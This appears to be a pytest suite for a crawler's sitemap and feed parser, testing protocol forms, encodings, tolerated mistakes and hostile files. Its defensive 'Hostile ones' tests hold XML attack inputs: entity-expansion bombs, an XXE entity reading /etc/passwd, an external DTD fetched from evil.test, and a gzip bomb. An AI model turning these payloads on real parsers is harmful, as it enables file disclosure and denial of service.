"""Sitemaps in practice: every form of the protocol, common errors, and hostile files."""

from __future__ import annotations

import gzip
import re
import tracemalloc
import zlib
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.cases import each

from crawler import urls
from crawler.feeds import SitemapEntry, sitemaps
from crawler.feeds.sitemap import MAX_SITEMAP_BYTES
from crawler.feeds.sitemap_entry import SitemapImage, SitemapNews, SitemapVideo

URL = "https://site.test/maps/sitemap.xml"
NAMESPACE = "http://www.sitemaps.org/schemas/sitemap/0.9"


def read(body, url=URL, **options):
    found = sitemaps(body.encode() if isinstance(body, str) else body, url, **options)
    entries = list(found)
    return entries, found


def pages(body, **options):
    return [entry.url.removeprefix("https://site.test") for entry in read(body, **options)[0]]


def urlset(*entries: str, attributes: str = f'xmlns="{NAMESPACE}"') -> str:
    inside = "".join(f"<url>{entry}</url>\n" for entry in entries)
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<urlset {attributes}>\n{inside}</urlset>'


# The protocol


def test_a_urlset():
    entries, found = read(
        urlset(
            "<loc>https://site.test/</loc><lastmod>2005-01-01</lastmod><changefreq>monthly</changefreq>"
            "<priority>0.8</priority>",
            "<loc>https://site.test/catalog?item=12&amp;desc=vacation_hawaii</loc>",
        )
    )
    assert entries == [
        SitemapEntry(
            url="https://site.test/", lastmod=datetime(2005, 1, 1, tzinfo=UTC), changefreq="monthly", priority=0.8
        ),
        SitemapEntry(url="https://site.test/catalog?item=12&desc=vacation_hawaii"),
    ]
    assert (found.kind, found.fault) == ("urlset", None)


def test_an_index():
    entries, found = read(
        f'<sitemapindex xmlns="{NAMESPACE}"><sitemap><loc>https://site.test/1.xml.gz</loc>'
        "<lastmod>2004-10-01T18:23:17+00:00</lastmod></sitemap><sitemap><loc>2.xml</loc></sitemap></sitemapindex>"
    )
    assert entries == [
        SitemapEntry(
            url="https://site.test/1.xml.gz", kind="sitemap", lastmod=datetime(2004, 10, 1, 18, 23, 17, tzinfo=UTC)
        ),
        SitemapEntry(url="https://site.test/maps/2.xml", kind="sitemap"),
    ]
    assert found.kind == "index"


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_plain_text_has_one_url_a_line(end):
    text = f"\ufeffhttps://site.test/1{end} https://site.test/ü {end}{end}HTTP://site.test/3{end}not a url{end}/4"
    entries, found = read(text)
    assert [entry.url for entry in entries] == [
        "https://site.test/1", "https://site.test/%C3%BC", "http://site.test/3"
    ]  # fmt: skip
    assert (found.kind, found.fault) == ("text", None)


def test_rss_as_a_sitemap():
    entries, found = read(
        '<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom"><channel><link>https://site.test/</link>'
        "<image><url>https://site.test/logo.png</url></image><atom:link rel='self' href='/feed'/>"
        "<item><link>https://site.test/1</link><pubDate>Tue, 03 Jun 2003 09:39:21 GMT</pubDate></item>"
        "<item><guid>https://site.test/2</guid></item><item><guid isPermaLink='false'>3</guid></item>"
        "<item><atom:link href='/4'/></item></channel></rss>"
    )
    assert entries == [
        SitemapEntry(url="https://site.test/1", lastmod=datetime(2003, 6, 3, 9, 39, 21, tzinfo=UTC)),
        SitemapEntry(url="https://site.test/2"),
        SitemapEntry(url="https://site.test/4"),
    ]
    assert found.kind == "feed"


def test_rss_1_and_atom_as_sitemaps():
    rdf = (
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">'
        "<channel rdf:about='/'><link>/</link></channel><item rdf:about='/1'><link>/1</link></item></rdf:RDF>"
    )
    atom = (
        '<feed xmlns="http://www.w3.org/2005/Atom"><link href="/"/><entry><link rel="enclosure" href="/x.mp3"/>'
        '<link href="/1"/><updated>2003-12-13T18:30:02Z</updated></entry></feed>'
    )
    assert pages(rdf) == ["/1"]
    entries, _ = read(atom)
    assert entries == [SitemapEntry(url="https://site.test/1", lastmod=datetime(2003, 12, 13, 18, 30, 2, tzinfo=UTC))]


@each(
    ("field", "value", "expected"),
    [
        ("changefreq", " Weekly\n", "weekly"),
        ("changefreq", "sometimes", None),
        ("priority", "1.0", 1.0),
        ("priority", "0", 0.0),
        ("priority", "1.1", None),
        ("priority", "-1", None),
        ("priority", "nan", None),
        ("priority", "high", None),
        ("lastmod", "last week", None),
        ("lastmod", "", None),
    ],
)
def test_the_fields_of_an_entry(field, value, expected):
    entries, _ = read(urlset(f"<loc>/x</loc><{field}>{value}</{field}>"))
    assert getattr(entries[0], field) == expected


def test_other_languages_of_a_page():
    entries, _ = read(
        urlset(
            "<loc>/en</loc>"
            '<xhtml:link rel="alternate" hreflang="de" href="/de"/>'
            '<xhtml:link rel="alternate" hreflang="x-default" href="https://www.site.test/"/>'
            '<xhtml:link rel="alternate" hreflang="fr" href="mailto:x"/>'
            '<xhtml:link rel="alternate" media="print" href="/print"/>',
            attributes=f'xmlns="{NAMESPACE}" xmlns:xhtml="http://www.w3.org/1999/xhtml"',
        )
    )
    assert entries[0].alternates == {"de": "https://site.test/de", "x-default": "https://www.site.test/"}


def test_images_videos_and_news():
    entries, _ = read(
        urlset(
            "<loc>/a</loc>"
            "<image:image><image:loc>/1.jpg</image:loc><image:caption>A &amp; B</image:caption></image:image>"
            "<image:image><image:loc>/2.jpg</image:loc><image:title>two</image:title></image:image>"
            "<image:image><image:caption>no place</image:caption></image:image>"
            "<video:video><video:thumbnail_loc>/t.jpg</video:thumbnail_loc><video:title>V</video:title>"
            "<video:content_loc>/v.mp4</video:content_loc><video:duration>600</video:duration>"
            "<video:publication_date>2007-11-05</video:publication_date><video:rating>4.2</video:rating>"
            "<video:tag>a</video:tag><video:tag>b</video:tag></video:video>"
            "<news:news><news:publication><news:name>The Example</news:name><news:language>en</news:language>"
            "</news:publication><news:publication_date>2008-12-23</news:publication_date>"
            "<news:title>A, B in Talks</news:title></news:news>"
            "<priority>0.3</priority>"
        )
    )
    assert entries == [
        SitemapEntry(
            url="https://site.test/a",
            priority=0.3,
            images=(
                SitemapImage(url="https://site.test/1.jpg", caption="A & B"),
                SitemapImage(url="https://site.test/2.jpg", title="two"),
            ),
            videos=(
                SitemapVideo(
                    url="https://site.test/v.mp4",
                    thumbnail="https://site.test/t.jpg",
                    title="V",
                    duration=600,
                    published=datetime(2007, 11, 5, tzinfo=UTC),
                    fields={"rating": "4.2"},
                    tags=("a", "b"),
                ),
            ),
            news=SitemapNews(
                name="The Example",
                language="en",
                title="A, B in Talks",
                published=datetime(2008, 12, 23, tzinfo=UTC),
            ),
        )
    ]


def test_a_date_without_a_time_means_the_end_of_the_day():
    since = datetime(2026, 1, 2, 12, tzinfo=UTC)
    told = {"2026-01-02": True, "2026-01-01": False, "2026-01": True, "2025": False, "2026-01-02T11:59Z": False}
    for text, changed in told.items():
        entry = read(urlset(f"<loc>/x</loc><lastmod>{text}</lastmod>"))[0][0]
        assert entry.changed_since(since) is changed, text
    assert SitemapEntry(url=URL).changed_since(since)
    assert SitemapEntry(url=URL, lastmod=since).changed_since(datetime(2026, 1, 2))  # noqa: DTZ001 - a naive one


# Packing and encodings

PLAIN = urlset("<loc>/ä</loc>").encode()


@each(
    "body",
    [
        gzip.compress(PLAIN, mtime=0),
        gzip.compress(gzip.compress(PLAIN, mtime=0), mtime=0),
        gzip.compress(PLAIN[:50], mtime=0) + gzip.compress(PLAIN[50:], mtime=0),
        gzip.compress(PLAIN, mtime=0) + b"\0" * 100,
        b"\xef\xbb\xbf" + PLAIN,
        b"\n\n  " + PLAIN,
        PLAIN.decode().encode("utf-16"),
        PLAIN.decode().encode("utf-16-le"),
        PLAIN.decode().encode("utf-16-be"),
        PLAIN.decode().replace("UTF-8", "ISO-8859-1").encode("latin-1"),
        PLAIN.decode().replace("UTF-8", "gbk").encode("gbk", "xmlcharrefreplace"),
    ],
)
def test_packed_and_encoded_in_any_way(body):
    assert pages(body) == ["/%C3%A4"]
    assert pages([body[at : at + 1] for at in range(len(body))]) == ["/%C3%A4"]


def test_the_header_says_which_encoding_before_the_file_does():
    body = PLAIN.decode().replace("UTF-8", "us-ascii").encode("shift_jis", "xmlcharrefreplace")
    body = body.replace(b"&#228;", "あ".encode("shift_jis"))
    assert pages(body, content_type="text/xml; charset=Shift_JIS") == ["/%E3%81%82"]


def test_entries_before_broken_gzip_count():
    packed = gzip.compress(urlset(*(f"<loc>/{n * n}</loc>" for n in range(1000))).encode())
    for body, fault in ((packed[:-500], "truncated gzip"), (packed[:-8] + b"\xff" * 8, "broken gzip")):
        entries, found = read(body)
        assert (len(entries) > 500, found.fault) == (True, fault)
    assert read(b"\x1f\x8b" + b"\xff" * 50)[1].fault == "broken gzip"


# Mistakes


@each(
    "body",
    [
        urlset("<loc>/1</loc>", attributes=""),
        urlset("<loc>/1</loc>", attributes='xmlns="http://www.google.com/schemas/sitemap/0.84"'),
        urlset("<loc>/1</loc>", attributes='xmlns="http://wrong.test/"'),
        urlset("<loc>\n   <![CDATA[ /1 ]]>\n </loc>"),
        urlset("<LOC>/1</LOC>"),
        urlset("<loc>/1</loc><x:unbound a:b='1'>y</x:unbound>"),
        urlset("<loc>/1#part</loc>"),
        urlset("<loc>/\x0b1</loc>"),
        urlset("<title>a < b</title><loc>/1</loc>"),
        urlset("<loc></loc>", "<loc>   </loc>", "<lastmod>2020</lastmod>", "<loc>mailto:x</loc>", "<loc>/1</loc>"),
        f'<s:urlset xmlns:s="{NAMESPACE}"><s:url><s:loc>/1</s:loc></s:url></s:urlset>',
        "<sites><url><loc>/1</loc></url></sites>",
        "<br />\n<b>Warning</b>: cannot modify header\n" + urlset("<loc>/1</loc>"),
        "Notice: x\n" + urlset("<loc>/1</loc>"),
        urlset("<loc>/1</loc>") + "\n<script>x</script>",
        urlset("<loc>/1</loc>") + "<!-- made by us",
        urlset("<loc>/1</loc>").replace("<urlset", "<!-- <url><loc>/no</loc></url> & <urlset> --><urlset"),
        urlset("<loc>/1</loc>").replace("<urlset", "<?xml-stylesheet href='a&b'?><urlset"),
        urlset("<loc>/1</loc>").replace("<urlset", "<!DOCTYPE urlset SYSTEM 'http://site.test/x.dtd'><urlset"),
    ],
)
def test_common_mistakes_are_tolerated(body):
    assert pages(body) == ["/1"]
    assert pages([body[at : at + 1].encode() for at in range(len(body))]) == ["/1"]
    assert read(body)[1].fault is None


@pytest.mark.parametrize(
    ("written", "meant"),
    [
        ("/?a=1&b=2", "/?a=1&b=2"),
        ("/?a=1&amp;b=2", "/?a=1&b=2"),
        ("/?a=1&copy=2", "/?a=1&copy=2"),
        ("/caf&eacute;", "/caf%C3%A9"),
        ("/&#233;&#xe9;", "/%C3%A9%C3%A9"),
        ("/&unknown;", "/&unknown;"),
        ("/&#0;x", "/%EF%BF%BDx"),
        ("<![CDATA[/?a=1&b=2]]>", "/?a=1&b=2"),
        ("<![CDATA[/?a=1&amp;b=2]]>", "/?a=1&amp;b=2"),
    ],
)
def test_ampersands(written, meant):
    body = urlset(f"<loc>{written}</loc>")
    assert pages(body) == [meant]
    assert pages([body[at : at + 1].encode() for at in range(len(body))]) == [meant]


@pytest.mark.parametrize(
    ("rest", "fault"),
    [
        ("<url><loc>/3", "truncated XML"),
        ("<url><loc>/3</lo", "truncated XML"),
        ("<url><loc>/3</url>", "broken XML (mismatched tag, line 2)"),
        ("</wrong>", "broken XML (mismatched tag, line 2)"),
        ("<url><loc>/3 <a b=></loc></url>", "broken XML (not well-formed (invalid token), line 2)"),
    ],
)
def test_entries_before_a_mistake_count(rest, fault):
    body = "<urlset><url><loc>/1</loc></url>\n<url><loc>/2</loc></url>" + rest
    assert pages(body) == ["/1", "/2"]
    assert read(body)[1].fault == fault


@pytest.mark.parametrize(
    ("body", "fault"),
    [
        ("", "empty"),
        (" \n ", "empty"),
        ("<!DOCTYPE html><title>404</title><a href='/1'>x</a>", "HTML instead of a sitemap"),
        ("<!-- x --><html><body><url><loc>/1</loc></url></body></html>", "HTML instead of a sitemap"),
        ("nothing of use", "not a sitemap"),
        ('{"a": 1}', "not a sitemap"),
        ("\x89PNG\r\n\x1a\n", "not a sitemap"),
    ],
)
def test_another_document_has_no_entries_and_a_fault(body, fault):
    entries, found = read(body)
    assert entries == []
    assert (found.kind, found.fault) == ("", fault)


@each(
    "broken",
    [
        "<url><loc>/no</lco></url>",
        "<url><loc>/no</url>",
        "<url><loc>/no<b></loc></url>",
        "<url a=1><loc>/no</loc></url>",
        "<url><loc>/no</loc><lastmod a='1' a='2'/></url>",
        "</url>",
        "<url><loc>/no?a<b</loc></url>",
        "<url><loc>/no]]></loc></url>",
        "<url><url><loc>/no</loc></x></url>",
        "<?php echo ?><?xml version='1.0'?>",
    ],
)
def test_entries_after_a_mistake_count_too(broken):
    body = "<urlset><url><loc>/1</loc></url>" + f"{broken}<url><loc>/2</loc></url>" * 3 + "</urlset>"
    found = read(body)[1]
    assert pages(body) == ["/1", "/2", "/2", "/2"]
    assert found.fault.startswith("broken XML")
    assert pages([body[at : at + 1].encode() for at in range(len(body))]) == ["/1", "/2", "/2", "/2"]


def test_mistakes_without_end_end_at_last():
    body = "<urlset><url><loc>/1</loc></url>" + "<url></x>" * 20_000 + "<url><loc>/2</loc></url></urlset>"
    assert pages(body) == ["/1"]


# Hostile ones


@pytest.mark.parametrize(
    "declared",
    [
        '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">',
        '<!ENTITY c SYSTEM "file:///etc/passwd">',
        '<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;',
        '<!ATTLIST url a CDATA "x">',
        '<!ENTITY x "<![CDATA[">',
    ],
)
def test_declared_entities_are_refused(declared):
    body = f"<!DOCTYPE urlset [{declared}]><urlset><url><loc>/&c;</loc></url></urlset>"
    entries, found = read(body)
    assert entries == []
    assert re.fullmatch("XML with (entity|attribute) declarations", found.fault or "")


def test_a_bomb_is_read_to_its_cap_in_flat_memory():
    bomb = gzip.compress(b"<urlset><url><loc>/1</loc></url>" + b" " * (2 * MAX_SITEMAP_BYTES), compresslevel=1)
    tracemalloc.start()
    entries, found = read(bomb)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert (len(entries), found.fault) == (1, f"larger than {MAX_SITEMAP_BYTES} bytes")
    assert peak < 8 * 1024 * 1024


@pytest.mark.parametrize(
    ("tail", "fault"),
    [
        (b"<a b='" + b"x" * 3_000_000, "an unclosed tag"),
        (b"<!--" + b"x" * 3_000_000, "an unclosed tag"),
        (b"<a>" * 1_000_000, "elements nested too deeply"),
        (b"".join(b"<a%d/>" % n for n in range(300_000)), "too many names"),
        (b"<url><loc>/" + b"x" * 3_000_000 + b"</loc></url><url><loc>/2</loc></url>", "truncated XML"),
        (b"<url><loc>/y</loc>" + b"<image><loc>/x</loc></image>" * 60_000 + b"</url>", "truncated XML"),
    ],
)
def test_nothing_makes_memory_grow(tail, fault):
    body = b"<urlset><url><loc>/1</loc></url>" + tail
    tracemalloc.start()
    entries, found = read(body)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert (entries[0].url, found.fault) == ("https://site.test/1", fault)
    assert peak < 12 * 1024 * 1024


def test_a_field_that_is_too_long_counts_as_missing():
    long = "x" * 10_000
    assert pages(urlset(f"<loc>/{long}</loc>", f"<loc>/1</loc><lastmod>{long}</lastmod>")) == ["/1"]
    root = "https://site.test"
    assert pages(f"{root}/{long}\n{root}/1\n{long * 30}{root}/no\n{root}/2") == ["/1", "/2"]


def test_a_large_sitemap_streams_in_flat_memory(monkeypatch):
    monkeypatch.setattr(urls, "MAX_REMEMBERED", 100)  # that memory is bounded, too, but by more than this sitemap

    def chunks() -> Iterator[bytes]:
        yield b'<?xml version="1.0"?><urlset>'
        for start in range(0, 5000, 100):
            yield b"".join(
                b"<url><loc>https://site.test/page/%d</loc><lastmod>2026-01-02</lastmod></url>\n" % n
                for n in range(start, start + 100)
            )
        yield b"</urlset>"

    list(sitemaps(b"<urlset><url><loc>/1</loc></url></urlset>", URL))
    tracemalloc.start()
    count = sum(1 for _ in sitemaps(chunks(), URL))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert count == 5000
    assert peak < 1024 * 1024  # all entries together take twice of it


PIECES = st.sampled_from([
    "<urlset>", "</urlset>", "<url>", "</url>", "<loc>", "</loc>", "<lastmod>", "<sitemap>", "<rss>", "<item>",
    "<link>",
    "<feed>", "<entry>", "<link href='", "'/>", "<!--", "-->", "<![CDATA[", "]]>", "<?", "?>", "<!DOCTYPE x [", "]>",
    "&amp;", "&", "&#x110000;", "&#xD800;", "<", ">", "https://site.test/", "\n", "\0", "\ud800", "é", "<?xml ",
    "<image:image>", "</image:image>", "<video>", "<news>", " xmlns:a='b'", "<!ENTITY a 'b'>", "2026-01-02",
])  # fmt: skip
BODIES = (
    st.binary(max_size=200)
    | st.lists(PIECES, max_size=30).map(lambda parts: "".join(parts).encode("utf-8", "surrogatepass"))
    | st.lists(PIECES, max_size=30).map(
        lambda parts: zlib.compress("".join(parts).encode("utf-8", "replace"), wbits=31)
    )
)


@given(BODIES, st.sampled_from([None, "text/xml; charset=utf-16", "text/html; charset=iso-2022-jp", "x"]))
def test_no_input_raises_and_pieces_do_not_matter(body, content_type):
    whole, found = read(body, content_type=content_type)
    pieces, again = read([body[at : at + 3] for at in range(0, len(body), 3)], content_type=content_type)
    assert whole == pieces
    assert (found.kind, found.fault is None) == (again.kind, again.fault is None)
